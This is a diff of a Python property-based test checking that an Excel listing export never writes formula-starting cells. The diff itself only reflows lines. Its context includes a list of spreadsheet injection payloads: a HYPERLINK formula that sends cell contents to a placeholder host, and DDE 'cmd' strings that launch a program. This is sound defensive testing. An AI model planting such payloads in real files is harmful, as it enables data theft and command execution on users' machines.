@@ -33,8 +33,8 @@ FORMULA_START = ("=", "+", "-", "@")
 PREFIXES = ["", "", "=", "+", "-", "@", "==", "=+", "-=", "@=", "\t=", "\r=", " =", "'="]
 ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0", "+84 912 345 678",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-", "+", "@", "="]
-PROFILE = settings(deadline=None, database=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow,
-                                                                       HealthCheck.function_scoped_fixture])
+PROFILE = settings(deadline=None, database=None, derandomize=True,
+                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
 
 # text an Excel cell can hold (XML 1.0 has no other control characters; xlsxwriter escapes them)
 cell_text = st.text(st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\t\n"), max_size=24)
@@ -76,7 +76,8 @@ def test_listing_excel_cells_never_start_a_formula(rows, header):
     assert workbook_formulas(data) == []
     back = pl.read_excel(io.BytesIO(data), infer_schema_length=None)
     for column in frame.columns[:3]:
-        for written, read in zip(frame[column].to_list(), back[back.columns[frame.columns.index(column)]].to_list()):
+        read_back = back[back.columns[frame.columns.index(column)]].to_list()
+        for written, read in zip(frame[column].to_list(), read_back):
             assert not starts_formula(read), (written, read)
             if written and not starts_formula(written) and not written.startswith(("\t", "\r")):
                 assert read == written          # text that was safe is exported unchanged
